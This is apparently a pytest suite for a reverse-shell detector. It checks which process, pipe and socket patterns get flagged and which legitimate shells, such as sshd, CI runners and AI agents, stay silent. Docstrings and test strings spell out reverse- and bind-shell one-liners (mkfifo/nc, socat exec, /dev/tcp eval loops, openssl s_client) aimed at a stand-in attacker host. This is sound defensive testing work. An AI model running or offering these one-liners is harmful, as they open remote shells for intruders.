"""Shells that a remote peer commands, in the ways that tools make them; and what looks like it and is honest."""

from __future__ import annotations

import pytest
from detect_acts import (
    DEVNULL,
    FILE,
    NULL,
    SECOND,
    T0,
    TTY,
    box,
    ended,
    exchange,
    flow,
    found,
    pipe,
    proc,
    sock,
    started,
    system,
    tty,
    unix,
    worst,
)

from leeward.detect.reverse_shell import ReverseShell
from leeward.model.activity import Activity
from leeward.model.finding import Finding
from leeward.model.process import Process

S = sock(77)
EVIL = "203.0.113.7:4444"


def tell(*activities: Activity, until: float = 0) -> list[Finding]:
    return found(ReverseShell(), *activities, until=until)


def payload(process: Process, remote: str, at: float, number: int, size: int) -> Activity:
    """News of a flow that has received `size` bytes in three packets."""
    made = flow(process, remote, at, number=number, began=False, received=3 * 52 + 8 + size)
    made.flow.packets_received = 3
    return made


# -- the shell's streams are the socket ------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["bash -i", "/bin/sh -i", "sh", "sh -c 'exec sh'", "zsh", "python3 -i", "pwsh"])
def test_streams_that_are_an_outbound_socket(command: str) -> None:
    who = proc(command, proc("python3 app.py"))
    told = tell(flow(who, EVIL, number=77), started(who, (S, S, S), 0.1))
    assert worst(told) == "critical"
    assert told[0].subject["destination"] == EVIL
    assert {"streams", "flow"} <= {e["type"] for e in told[0].evidence}


def test_the_flow_may_be_told_after_the_shell() -> None:
    shell = proc("bash -i", proc("perl -e x"))
    detector = ReverseShell()
    assert not detector.feed(started(shell, (S, S, S)))
    told = detector.feed(flow(shell, EVIL, 0.05, number=77))
    assert [f.severity for f in told] == ["critical"]
    assert not detector.tick(T0 + SECOND)


def test_without_any_flow_it_is_told_at_the_next_tick() -> None:
    assert worst(tell(started(proc("bash"), (S, S, S)), until=1)) == "critical"


def test_a_socket_put_in_place_after_start() -> None:
    """python -c: connect, dup2 three times, pty.spawn: told at the second dup2."""
    who = proc("python3 -c 'import socket,os,pty'")
    detector = ReverseShell()
    found(detector, started(who, TTY), flow(who, EVIL, number=77))
    assert not detector.feed(system(who, "stream", 0.1, number=0, stream=S))
    assert [f.severity for f in detector.feed(system(who, "stream", 0.1, number=1, stream=S))] == ["critical"]


def test_a_bind_shell() -> None:
    listener = proc("nc -lvp 4444 -e /bin/sh")
    shell = proc("/bin/sh", listener)
    told = tell(flow(shell, "198.51.100.9:5000", number=77, inbound=True), started(shell, (S, S, S), 0.1))
    assert worst(told) == "critical"


def test_a_command_run_by_an_interpreter_into_its_socket() -> None:
    """perl -MIO: STDIN and STDOUT are the socket, each line is run by system()."""
    perl = proc("perl -MIO -e x")
    told = tell(flow(perl, EVIL, number=77), started(proc("id", perl), (S, S, TTY[2]), 0.2))
    assert worst(told) == "high"


# -- it leads there through others -----------------------------------------------------------------------------------


def test_named_pipe_read_by_the_shell_itself() -> None:
    """sh -i < f 2>&1 | openssl s_client -connect peer > f"""
    shell = proc("/bin/sh -i")
    relay = proc("openssl s_client -quiet -connect 203.0.113.7:443")
    told = tell(
        started(shell, (pipe(900), pipe(1), pipe(1))),
        started(relay, (pipe(1), pipe(900), TTY[2]), 0.01),
        flow(relay, "203.0.113.7:443", 0.1, number=5, l7="tls"),
    )
    assert worst(told) == "critical"


def test_named_pipe_read_by_cat() -> None:
    """rm f; mkfifo f; cat f | sh -i 2>&1 | nc peer > f"""
    bash = proc("bash")
    cat, shell, nc = proc("cat /tmp/f", bash), proc("sh -i", bash), proc("nc 203.0.113.7 4444", bash)
    told = tell(
        started(bash, TTY),
        started(cat, (TTY[0], pipe(1), TTY[2])),
        started(shell, (pipe(1), pipe(2), pipe(2)), 0.01),
        started(nc, (pipe(2), pipe(900), TTY[2]), 0.02),
        flow(nc, EVIL, 0.05, number=5),
    )
    assert worst(told) == "critical"


def test_two_connections_to_one_peer() -> None:
    """telnet peer 1 | sh | telnet peer 2"""
    one, shell, two = proc("telnet 203.0.113.7 1"), proc("sh"), proc("telnet 203.0.113.7 2")
    told = tell(
        started(one, (TTY[0], pipe(1), TTY[2])), started(shell, (pipe(1), pipe(2), TTY[2])), started(two, (pipe(2), *TTY[1:])),
        flow(one, "203.0.113.7:1", 0.1, number=5), flow(two, "203.0.113.7:2", 0.1, number=6),
    )  # fmt: skip
    assert worst(told) == "critical"


def test_socat_with_a_terminal_and_without() -> None:
    socat = proc("socat exec:bash,pty tcp:203.0.113.7:4444")
    shell = proc("bash -li", socat)
    with_pty = tell(flow(socat, EVIL, number=5), system(socat, "pty", number=9), started(shell, (tty(9),) * 3, 0.1))
    assert worst(with_pty) == "critical"
    pair = tell(flow(socat, EVIL, number=5), started(shell, (unix(11, 12),) * 3, 0.1))
    assert worst(pair) == "critical"


def test_dev_tcp_with_a_loop_that_pipes() -> None:
    """exec 5<>/dev/tcp/peer; cat <&5 | while read line; do $line 2>&5 >&5; done"""
    bash = proc("bash -c x")
    cat, listing = proc("cat", bash), proc("ls", bash)
    told = tell(
        started(bash, TTY),
        flow(bash, EVIL, number=77),
        started(cat, (S, pipe(1), TTY[2]), 0.1),
        started(listing, (pipe(1), S, S), 3),
    )
    assert worst(told) == "high"


def test_dev_tcp_with_a_loop_that_reads_itself() -> None:
    """while read -r line <&5; do eval "$line" >&5 2>&5; done"""
    bash = proc("bash -c x")
    start = [started(bash, TTY), flow(bash, EVIL, number=77), started(proc("ls", bash), (TTY[0], S, S), 1)]
    assert worst(tell(*start, payload(bash, EVIL, 2, 77, size=3))) == "high"
    assert not tell(*start, payload(bash, EVIL, 2, 77, size=0))


@pytest.mark.parametrize(
    ("parent", "pair"),
    [
        ("node shell.js", True),
        ("/tmp/implant", False),
        ("php-fpm", False),
        ("ruby x.rb", False),
        ("/opt/app/agentd", False),
    ],
)
def test_a_parent_that_holds_the_pipes_and_a_raw_connection(parent: str, pair: bool) -> None:
    holder = proc(parent)
    shell = proc("/bin/sh -i", holder)
    streams = (unix(1, 2), unix(3, 4), unix(5, 6)) if pair else (pipe(1), pipe(2), pipe(3))
    told = tell(flow(holder, EVIL, number=5), started(shell, streams, 0.2))
    assert worst(told) == "high"
    assert told[0].evidence[1]["pid"] == holder.pid


def test_a_terminal_made_by_a_process_whose_streams_are_the_socket() -> None:
    python = proc("/opt/x/python -c x", proc("bash"))
    shell = proc("bash", python)
    told = tell(
        flow(python, EVIL, number=77), started(python, (S, S, S)), system(python, "pty", number=4), started(shell, (tty(4),) * 3),
    )  # fmt: skip
    assert [f.subject["program"] for f in told] == [python.exe]  # what the remote one starts is no news
    alone = tell(flow(python, EVIL, number=5), system(python, "pty", number=4), started(shell, (tty(4),) * 3))
    assert [f.subject["program"] for f in alone] == [shell.exe]


def one_by_one(holder: str, *commands: str, inherits: bool = False) -> list[Finding]:
    """A program with a connection runs commands, whose output it takes."""
    own = proc(holder)
    acts: list[Activity] = [started(own, (TTY[0], pipe(1), TTY[2])), flow(own, EVIL, number=5)]
    for i, command in enumerate(commands, 1):
        acts.append(started(proc(command, own), (TTY[0], pipe(1 if inherits else i + 1), TTY[2]), i))
    return tell(*acts)


def test_questions_answered_into_a_connection() -> None:
    told = one_by_one("/opt/implant", "sh -c id", "sh -c 'uname -a'")
    assert worst(told) == "high"
    assert next(e for e in told[0].evidence if e["type"] == "commands")["margin"] == 0
    assert not one_by_one("/opt/implant", "sh -c id")
    assert not one_by_one("/opt/implant", "sh -c id", "sh -c 'uname -a'", inherits=True)
    assert not one_by_one("/opt/implant", "sh -c 'gcc x.c'", "sh -c ls", "sh -c 'uname -p'")


@pytest.mark.parametrize(
    ("holder", "command"),
    [
        ("ruby -rsocket -e 'c=TCPSocket.new(1,2);while(d=c.gets);IO.popen(d)...'", "ls"),
        ("gawk 'BEGIN {s = \"/inet/tcp/0/h/1\"; s |& getline c; c |& getline}'", "sh -c ls"),
        ("python3 -c 'import socket,subprocess; ...'", "sh -c 'cat /etc/passwd'"),
        ("tclsh", "id"),
        ("python3 -", "whoami"),
    ],
)
def test_a_program_that_was_typed_in(holder: str, command: str) -> None:
    assert worst(one_by_one(holder, command)) == "high"


def test_workers_of_a_model_server_ask_about_the_machine() -> None:
    worker = "python3 -c 'from multiprocessing.spawn import spawn_main; spawn_main()'"
    assert not one_by_one(
        worker, "sh -c '/sbin/ldconfig -p'", "gcc -v", "sh -c 'uname -p'", "lscpu", "sh -c 'nvidia-smi'"
    )


def test_tls_on_port_443_is_judged_when_it_has_spoken() -> None:
    holder = proc("/opt/app/thing")
    shell = proc("sh", holder)
    detector = ReverseShell()
    first = found(detector, flow(holder, "203.0.113.7:443", number=5), started(shell, (pipe(1), pipe(2), pipe(2)), 0.1))
    assert worst(first) == "low"
    spoke = flow(holder, "203.0.113.7:443", 0.5, number=5, began=False, sent=200)
    spoke.flow.packets_sent = 3
    assert worst(found(detector, spoke)) == "high"


def test_what_a_remote_shell_runs_is_no_news() -> None:
    shell = proc("bash -i", proc("bash -c x"))
    child = proc("bash -c y", shell)
    acts = [
        flow(shell, EVIL, number=77),
        started(shell, (S, S, S)),
        started(child, (S, S, S), 1),
        started(proc("id", child), (S, S, S), 2),
    ]
    assert len(tell(*acts)) == 1
    other = [flow(child, "198.51.100.7:99", number=78), started(proc("sh", child), (sock(78),) * 3, 3)]
    assert len(tell(*acts, *other)) == 2


def test_one_shell_is_told_once() -> None:
    holder = proc("/tmp/x")
    shell = proc("sh -i", holder)
    detector = ReverseShell()
    told = found(detector, flow(holder, EVIL, number=5), started(shell, (pipe(1), pipe(2), pipe(2)), 0.1))
    told += found(detector, *(flow(holder, EVIL, i, number=5, began=False, sent=100) for i in range(1, 20)))
    assert len(told) == 1


# -- honest ----------------------------------------------------------------------------------------------------------


def holder_of(command: str, shell: str, *, streams: str = "pipe", **more: object) -> list[Finding]:
    """A program with a connection that starts a shell over pipes or a terminal."""
    parent = proc(command)
    child = proc(shell, parent)
    made = (tty(5),) * 3 if streams == "tty" else (pipe(1), pipe(2), pipe(3))
    acts: list[Activity] = [flow(parent, "198.51.100.2:443", number=5, **more), system(parent, "pty", number=5)]  # type: ignore[arg-type]
    return tell(
        *acts,
        started(child, made, 1),
        flow(parent, "198.51.100.2:443", 9, number=5, began=False, sent=999, **more),
        until=60,
    )  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "command",
    [
        "sshd",
        "containerd-shim-runc-v2 -id x",
        "gitlab-runner run",
        "tmux",
        "amazon-ssm-agent",
        "/usr/bin/node /usr/lib/node_modules/@anthropic-ai/claude-code/cli.js",
        "/opt/actions-runner/bin/Runner.Worker",
        "kubectl exec -it pod -- sh",
        "ssh host",
        "ansible-playbook x.yml",
    ],
)
@pytest.mark.parametrize("streams", ["pipe", "tty"])
def test_servers_of_shells_runners_and_agents_are_silent(command: str, streams: str) -> None:
    assert not holder_of(command, "bash -i", streams=streams)
    assert not holder_of(command, "bash -i", streams=streams, inbound=True)


@pytest.mark.parametrize("command", ["ttyd bash", "jupyter-lab", "code-server"])
def test_web_terminals_are_low(command: str) -> None:
    assert worst(holder_of(command, "bash -l", streams="tty", inbound=True, l7="http")) in ("", "low")


def test_an_unknown_program_that_talks_https_and_feeds_bash_a_script_is_low() -> None:
    assert worst(holder_of("/opt/ci/agentx", "bash", l7="tls")) == "low"


def test_who_talks_to_a_model_has_its_own_rule() -> None:
    assert not holder_of("python3 myagent.py", "bash", l7="tls", provider="openai")
    parent = proc("python3 myagent.py")
    shell = proc("bash", parent)
    acts = [exchange(parent), flow(parent, "10.0.0.9:8000", number=5), started(shell, (pipe(1), pipe(2), pipe(2)), 1)]
    assert not tell(*acts)


def test_a_worker_that_feeds_bash_a_script_over_its_queue_connection() -> None:
    worker = proc("python3 -m celery worker")
    shell = proc("bash", worker)
    assert not tell(flow(worker, "10.0.0.8:5672", number=5), started(shell, (pipe(1), pipe(2), pipe(2)), 600))


@pytest.mark.parametrize("out", [TTY[1], FILE, pipe(50)])
def test_curl_into_sh_leads_back_nowhere(out: object) -> None:
    runner = proc("/opt/actions-runner/bin/Runner.Worker")
    bash = proc("bash -e x.sh", runner)
    curl, shell = proc("curl -fsSL https://get.example/i.sh", bash), proc("sh", bash)
    assert not tell(
        flow(runner, "198.51.100.1:443", number=4, l7="tls"),
        started(bash, (DEVNULL, out, out)),  # type: ignore[arg-type]
        started(curl, (DEVNULL, pipe(1), out)),  # type: ignore[arg-type]
        started(shell, (pipe(1), out, out)),  # type: ignore[arg-type]
        flow(curl, "203.0.113.80:443", 0.2, number=5, l7="tls"),
        until=20,
    )


@pytest.mark.parametrize("command", ["bash /opt/check.sh", "sh -c /opt/handler", "python3 /srv/service.py"])
def test_a_service_that_is_handed_its_connection_is_low(command: str) -> None:
    child = proc(command, proc("/usr/sbin/xinetd"))
    assert worst(tell(flow(child, "10.1.1.1:999", number=77, inbound=True), started(child, (S, S, S), 0.1))) in (
        "",
        "low",
    )


def test_a_program_on_a_socket_that_is_no_shell() -> None:
    child = proc("git-daemon --inetd", proc("/usr/sbin/inetd"))
    assert not tell(flow(child, "10.1.1.1:999", number=77, inbound=True), started(child, (S, S, S), 0.1), until=10)


def test_ssh_proxy_commands() -> None:
    ssh = proc("ssh host")
    shell = proc("sh -c 'nc bastion 22'", ssh)
    nc = proc("nc bastion 22", shell)
    streams = (pipe(1), pipe(2), TTY[2])
    assert not tell(
        started(ssh, TTY), started(shell, streams), started(nc, streams), flow(nc, "10.0.0.3:22", 0.2, number=5)
    )


def test_both_cats_of_a_tcp_proxy_in_bash() -> None:
    ssh = proc("ssh host")
    bash = proc("bash -c 'exec 3<>/dev/tcp/h/22; cat <&3 & cat >&3'", ssh)
    acts = [started(bash, (pipe(1), pipe(2), TTY[2])), flow(bash, "10.0.0.3:22", number=77)]
    acts += [
        started(proc("cat", bash), (S, pipe(2), TTY[2]), 0.1),
        started(proc("cat", bash), (pipe(1), S, TTY[2]), 0.1),
    ]
    assert not tell(*acts, until=10)


def test_a_health_check_with_dev_tcp() -> None:
    bash = proc("bash -c '</dev/tcp/db/5432'")
    assert not tell(
        started(bash, NULL), flow(bash, "10.0.0.3:5432", number=77), payload(bash, "10.0.0.3:5432", 1, 77, 0)
    )


def test_a_pipeline_into_nc_in_a_build() -> None:
    """cat script | sh | nc loghost 514, all with the runner's pipe as their output."""
    bash = proc("bash -e step.sh", proc("/opt/actions-runner/bin/Runner.Worker"))
    cat, shell, nc = proc("cat x.sh", bash), proc("sh", bash), proc("nc loghost 514", bash)
    assert not tell(
        started(bash, (DEVNULL, pipe(50), pipe(51))),
        started(cat, (DEVNULL, pipe(1), pipe(51))),
        started(shell, (pipe(1), pipe(2), pipe(51))),
        started(nc, (pipe(2), pipe(50), pipe(51))),
        flow(nc, "10.0.0.3:514", 0.1, number=5),
        until=10,
    )


def test_a_monitoring_program_that_asks_about_the_machine_only() -> None:
    agent = proc("/opt/monitor/agentd")
    acts = [flow(agent, "10.0.0.3:7000", number=5)]
    acts += [
        started(proc(f"sh -c '{c}'", agent), (DEVNULL, pipe(i), DEVNULL), i)
        for i, c in enumerate(("df -h", "ps aux", "netstat -s"))
    ]
    assert not tell(*acts)


def test_an_interactive_shell_of_a_container_engine() -> None:
    shim = proc("containerd-shim-runc-v2", workload="host")
    shell = proc("bash", shim, container=box())
    assert not tell(
        system(shell, "pty", number=0), started(shell, (tty(0),) * 3), flow(shell, "10.0.0.1:80", 1, number=8), until=5
    )


# -- bounded ---------------------------------------------------------------------------------------------------------


def test_what_ended_is_forgotten() -> None:
    detector = ReverseShell()
    for _ in range(200):
        holder = proc("/opt/x")
        shell = proc("sh", holder)
        found(
            detector, flow(holder, "198.51.100.2:443", number=5, l7="tls"), started(shell, (pipe(1), pipe(2), pipe(2)))
        )
        found(detector, ended(shell), ended(holder))
    assert not detector._waiting
    assert not detector._linked
    assert not detector._streams._ends
    assert not detector._streams._held


# -- relays that ask a resolver first --------------------------------------------------------------------------------

RESOLVER = "10.77.1.53:53"


def _by_relay() -> tuple[Process, list[Activity]]:
    above = proc("sh -c x")
    shell, relay = proc("sh -i", above), proc("openssl s_client -quiet -connect c2.example:443", above)
    return relay, [started(relay, (pipe(1), pipe(2), DEVNULL)), started(shell, (pipe(2), pipe(1), pipe(1)), 0.01)]


@pytest.mark.parametrize("l7", ["dns", ""])
def test_the_resolver_is_not_the_peer(l7: str) -> None:
    relay, begins = _by_relay()
    asked = flow(relay, RESOLVER, 0.03, number=8, l7=l7, proto="udp")
    assert not tell(*begins, asked, until=3)
    peer = flow(relay, "203.0.113.7:443", 0.05, number=9, domain="c2.example")
    told = tell(*begins, asked, peer, until=3)
    assert [f.subject["destination"] for f in told] == ["203.0.113.7:443"]
    assert told[0].subject["domain"] == "c2.example"
    assert "c2.example" in told[0].title


def test_a_shell_over_udp_is_told_once_no_tcp_came() -> None:
    relay, begins = _by_relay()
    over = flow(relay, "203.0.113.7:4444", 0.03, number=8, proto="udp")
    assert not tell(*begins, over, until=0)[1:]
    assert [f.subject["destination"] for f in tell(*begins, over, until=3)] == ["203.0.113.7:4444"]
    next_deed = started(proc("id", proc("sh -i")), (pipe(2), pipe(1), pipe(1)), 0.3)
    assert [f.subject["destination"] for f in tell(*begins, over, next_deed, until=0)] == ["203.0.113.7:4444"]


# -- agents ----------------------------------------------------------------------------------------------------------


def _by_agent(script: str) -> tuple[Process, list[Activity]]:
    agent = proc(f"python3 {script}")
    shell = proc("bash -i", agent)
    return agent, [system(agent, "pty", 0.1, number=3), started(shell, (tty(3), tty(3), tty(3)), 0.2)]


SKILL = "/home/app/.openclaw/bin/core.py"


def test_a_program_in_an_agents_folder_is_no_agent() -> None:
    """A skill's own program: it never spoke to a model, and what came over its connection is no protocol."""
    who, begins = _by_agent(SKILL)
    assert worst(tell(flow(who, EVIL, 0), *begins, payload(who, EVIL, 0.5, 0, 20))) == "high"


def test_an_agents_terminal_is_its_own() -> None:
    who, begins = _by_agent(SKILL)
    raw = payload(who, EVIL, 0.5, 0, 20)
    assert not tell(flow(who, "198.51.100.1:443", 0, l7="tls", provider="openai"), flow(who, EVIL, 0), *begins, raw)
    assert not tell(flow(who, EVIL, 0, l7="tls"), *begins, flow(who, EVIL, 0.5, l7="tls", began=False, received=500))
    assert not tell(flow(who, "127.0.0.1:4444", 0), *begins, payload(who, "127.0.0.1:4444", 0.5, 0, 20))
    assert not tell(flow(who, EVIL, 0), exchange(who, at=0.05), *begins, raw)
